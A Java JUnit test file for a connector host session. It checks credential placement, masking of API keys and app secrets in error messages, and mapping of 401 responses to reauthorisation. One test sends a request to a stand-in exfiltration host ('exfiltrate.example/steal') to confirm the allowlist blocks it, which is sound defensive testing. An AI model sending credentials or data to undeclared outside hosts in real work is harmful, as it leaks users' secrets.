package io.catalyst.core.connect;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.github.tomakehurst.wiremock.WireMockServer;
import io.catalyst.api.connect.AuthKind;
import io.catalyst.api.connect.AuthSpec;
import io.catalyst.api.connect.Connector;
import io.catalyst.api.connect.ConnectorSession;
import io.catalyst.api.connect.ProviderAccount;
import io.catalyst.api.connect.ProviderException;
import io.catalyst.api.connect.RecordSink;
import io.catalyst.api.connect.StreamRead;
import io.catalyst.api.connect.StreamSpec;
import io.catalyst.api.host.HttpRequestSpec;
import io.catalyst.api.host.HttpResult;
import io.catalyst.runtime.connect.ProviderHttp;
import java.net.URI;
import java.net.http.HttpClient;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The host's side of a connector's requests: the credential applied as declared, never shown in errors. */
class HostSessionTest {

    private static final String KEY = "pat-na1-5f0c6e1a-key";
    private static WireMockServer provider;

    @BeforeAll
    static void fake() {
        provider = new WireMockServer(options().dynamicPort().bindAddress("127.0.0.1"));
        provider.start();
    }

    @AfterAll
    static void stop() {
        provider.stop();
    }

    @BeforeEach
    void reset() {
        provider.resetAll();
    }

    @Test
    void aKeyGoesWhereTheConnectorSaysAndTheRequestGoesToTheStandIn() {
        provider.stubFor(any(anyUrl()).willReturn(okJson("{\"results\":[]}")));
        HostSession session = session(new AuthSpec(AuthKind.API_KEY, null, null, List.of(),
                AuthSpec.Placement.QUERY, "hs_auth", ""));

        HttpResult result = session.send(HttpRequestSpec.get(URI.create(session.baseUrl() + "/contacts/v1/lists"),
                Map.of()), null);

        assertThat(result.status()).isEqualTo(200);
        assertThat(session.baseUrl().toString()).isEqualTo(origin() + "/crm/v3");
        assertThat(session.pages()).isEqualTo(1);
        provider.verify(getRequestedFor(urlPathEqualTo("/crm/v3/contacts/v1/lists"))
                .withQueryParam("hs_auth", equalTo(KEY)));
    }

    @Test
    void aFailingProviderIsReportedWithoutTheKeyWhateverItsParameterIsCalled() {
        provider.stubFor(any(anyUrl()).willReturn(aResponse().withStatus(503)));
        HostSession session = session(new AuthSpec(AuthKind.API_KEY, null, null, List.of(),
                AuthSpec.Placement.QUERY, "hs_auth", ""));

        ProviderException failed = catchThrowableOfType(() -> session.send(HttpRequestSpec.get(
                URI.create(session.baseUrl() + "/objects"), Map.of()), null), ProviderException.class);

        assertThat(failed.kind()).isEqualTo(ProviderException.Kind.PROVIDER_FAILED);
        assertThat(failed).hasMessageContaining("503").hasMessageNotContaining(KEY);
    }

    @Test
    void anAppSecretThePlatformSuppliesIsMaskedToo() {
        provider.stubFor(any(anyUrl()).willReturn(aResponse().withStatus(502)));
        HostSession session = session(AuthSpec.apiKeyHeader("Access-Token", ""), List.of("app_code"),
                Map.of("app_code", "tt-app-9c1f"));

        ProviderException failed = catchThrowableOfType(() -> session.send(HttpRequestSpec.get(
                URI.create(session.baseUrl() + "/advertisers?app=1&app_code=tt-app-9c1f"), Map.of()), null),
                ProviderException.class);

        assertThat(session.settings()).containsEntry("app_code", "tt-app-9c1f");
        assertThat(failed).hasMessageContaining("502").hasMessageNotContaining("tt-app-9c1f");
    }

    @Test
    void aRefusedKeyMeansReauthorise() {
        provider.stubFor(any(anyUrl()).willReturn(aResponse().withStatus(401)));
        HostSession session = session(AuthSpec.apiKeyHeader("Authorization", "Bearer "));

        ProviderException refused = catchThrowableOfType(() -> session.send(HttpRequestSpec.get(
                URI.create(session.baseUrl() + "/objects"), Map.of()), null), ProviderException.class);

        assertThat(refused.kind()).isEqualTo(ProviderException.Kind.AUTH_EXPIRED);
        assertThat(refused).hasMessageNotContaining(KEY);
    }

    @Test
    void aRefusalKeepsTheProvidersReasonInWhatPeopleRead() {
        // Google Ads' 401 for a Google account without Ads access (AuthenticationError NOT_ADS_USER)
        provider.stubFor(any(anyUrl()).willReturn(aResponse().withStatus(401).withBody("{\"error\":{\"code\":401,"
                + "\"message\":\"Request had invalid authentication credentials.\",\"status\":\"UNAUTHENTICATED\"}}")));
        HostSession session = session(AuthSpec.apiKeyHeader("Authorization", "Bearer "));

        ProviderException refused = catchThrowableOfType(() -> session.send(HttpRequestSpec.get(
                URI.create(session.baseUrl() + "/objects"), Map.of()), null), ProviderException.class);

        assertThat(refused.kind()).isEqualTo(ProviderException.Kind.AUTH_EXPIRED);
        assertThat(refused).hasMessageStartingWith("A CRM no longer accepts this connection's authorisation")
                .hasMessageContaining("Request had invalid authentication credentials.").hasMessageNotContaining(KEY);
    }

    @Test
    void aHostTheConnectorDidNotDeclareIsRefused() {
        HostSession session = session(AuthSpec.apiKeyHeader("X-Key", ""));

        assertThat(catchThrowableOfType(() -> session.send(HttpRequestSpec.get(
                URI.create("https://exfiltrate.example/steal"), Map.of()), null), SecurityException.class))
                .hasMessageContaining("exfiltrate.example");
        assertThat(provider.getAllServeEvents()).isEmpty();
    }

    private static String origin() {
        return "http://127.0.0.1:" + provider.port();
    }

    private static HostSession session(AuthSpec auth) {
        return session(auth, List.of(), Map.of());
    }

    private static HostSession session(AuthSpec auth, List<String> platformSettings, Map<String, String> settings) {
        Connector connector = new Connector() {
            public List<String> platformSettings() {
                return platformSettings;
            }

            public String id() {
                return "crm";
            }

            public String displayName() {
                return "A CRM";
            }

            public AuthSpec auth() {
                return auth;
            }

            public URI baseUrl() {
                return URI.create("https://api.crm.example/crm/v3");
            }

            public List<StreamSpec> streams() {
                return List.of();
            }

            public List<ProviderAccount> accounts(ConnectorSession session) {
                return List.of();
            }

            public void read(ConnectorSession session, StreamRead read, RecordSink sink) {
            }
        };
        Connections.View view = new Connections.View(UUID.randomUUID(), "crm", "A CRM", "CRM", "ACTIVE", List.of(),
                360, 28, origin(), Map.of(), true, null, null, null, Instant.now());
        ProviderHttp http = new ProviderHttp(HttpClient.newHttpClient(), new ProviderHttp.Policy(
                Set.of("api.crm.example", "127.0.0.1"), 1, Duration.ofSeconds(1), Duration.ofMillis(1)),
                duration -> { }, Clock.systemUTC());
        return new HostSession(null, connector, UUID.randomUUID(), view, http, Credentials.apiKey(KEY), settings,
                ZoneId.of("UTC"), Clock.systemUTC());
    }
}
